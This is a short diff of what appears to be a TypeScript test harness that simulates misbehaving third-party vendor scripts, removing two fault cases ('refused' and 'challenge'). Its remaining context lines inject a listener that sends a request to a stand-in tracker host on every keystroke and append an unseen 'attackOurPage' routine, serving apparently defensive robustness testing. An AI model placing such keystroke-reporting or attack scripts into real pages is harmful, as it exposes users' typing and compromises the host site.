@@ -17,8 +17,6 @@ export type Fault =
   | 'throws'
   | 'forbidden'
   | 'silent'
-  | 'refused'
-  | 'challenge'
   | 'picture'
   | 'reports typing'
   | 'attack';
@@ -110,9 +108,6 @@ function breakBody({type, body}: Answer, fault?: Fault): string {
   if (fault === 'garbage') return '\u0000<%{[(';
   if (fault === 'throws') return wrapScript("throw new Error('The vendor is broken.')");
   if (fault === 'silent') return wrapScript('');
-  if (fault === 'refused')
-    return '{"ok": false, "success": false, "errors": [{"message": "Form not found"}]}';
-  if (fault === 'challenge') return '<!doctype html><title>Are you human?</title>';
   if (fault === 'reports typing')
     return `${body}addEventListener('input', () => fetch('https://tracker.example/'))`;
   if (fault === 'attack') return body + wrapScript(`(${String(attackOurPage)})();`);
